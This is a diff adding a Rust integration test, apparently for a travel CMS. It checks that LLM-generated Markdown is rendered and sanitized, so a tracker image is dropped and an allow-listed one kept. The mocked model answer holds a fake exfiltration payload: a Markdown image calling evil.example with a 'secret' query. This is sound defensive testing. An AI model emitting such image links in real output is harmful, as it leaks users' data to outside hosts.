@@ -401,3 +401,83 @@ async fn a_hung_upstream_answers_upstream_timeout_within_the_request_deadline() 
     assert_eq!(hung.body["error"], "upstream_timeout", "{:?}", hung.body);
     app.finish().await;
 }
+
+/// Whatever the model writes (Markdown here, under the default `format=html`) is
+/// rendered and cleaned by the app's own policy before it is stored or shown: no raw
+/// Markdown in the blocks, the tracker image gone, an image from `IMAGE_HOSTS` kept. Chat
+/// goes the same way, and `sanitized` says whether cleaning removed anything from what
+/// the answer rendered to.
+#[tokio::test]
+async fn markdown_answers_are_rendered_and_cleaned_by_the_apps_policy() {
+    let llm = MockServer::start().await;
+    Mock::given(method("POST"))
+        .and(path("/chat/completions"))
+        .respond_with(completion(
+            "## Gold Souk\n\n**Open daily.** ![tracker](https://evil.example/y?q=secret) \
+             ![Souk](https://cdn.travelcms.example/souk.jpg)",
+        ))
+        .mount(&llm)
+        .await;
+    let app = app_with(&llm, &[("IMAGE_HOSTS", "cdn.travelcms.example")]).await;
+    let (_, token) = app.user("editor@example.com", "editor").await;
+    let id = create_hotel(&app, &token, "Gold Souk Hotel").await["id"]
+        .as_i64()
+        .unwrap();
+    let generated = app
+        .send(
+            Method::POST,
+            &format!("/api/ai/contents/{id}/generate"),
+            Some(&token),
+            None,
+        )
+        .await;
+    assert_eq!(generated.status, StatusCode::OK, "{:?}", generated.body);
+    let chat = app
+        .send(
+            Method::POST,
+            "/api/ai/chat",
+            Some(&token),
+            Some(json!({ "message": "What is the Gold Souk like?" })),
+        )
+        .await;
+    assert_eq!(chat.status, StatusCode::OK, "{:?}", chat.body);
+    let stored = generated.body["content"]["blocks"][0]["html"]
+        .as_str()
+        .unwrap_or_default();
+    let reply = chat.body["reply"].as_str().unwrap_or_default();
+    for (what, html) in [("stored", stored), ("chat", reply)] {
+        assert!(
+            html.contains("<h2>Gold Souk</h2>") && html.contains("<strong>Open daily.</strong>"),
+            "{what}: {html}"
+        );
+        assert!(
+            html.contains(r#"<img src="https://cdn.travelcms.example/souk.jpg" alt="Souk">"#),
+            "{what}: {html}"
+        );
+        for raw in ["##", "**", "![", "evil.example", "secret"] {
+            assert!(!html.contains(raw), "{what}: {raw} in {html}");
+        }
+    }
+    assert_eq!(generated.body["sanitized"], true);
+    assert_eq!(chat.body["sanitized"], true);
+    app.finish().await;
+
+    // An answer with nothing to remove is not reported as sanitized.
+    let (_llm, app, token) =
+        editor_with_model(completion("Dates are **sweet** here.\n\n- Try them fresh")).await;
+    let chat = app
+        .send(
+            Method::POST,
+            "/api/ai/chat",
+            Some(&token),
+            Some(json!({ "message": "What should I eat?" })),
+        )
+        .await;
+    assert_eq!(chat.status, StatusCode::OK, "{:?}", chat.body);
+    assert_eq!(
+        chat.body["reply"],
+        "<p>Dates are <strong>sweet</strong> here.</p>\n<ul>\n<li>Try them fresh</li>\n</ul>\n"
+    );
+    assert_eq!(chat.body["sanitized"], false);
+    app.finish().await;
+}
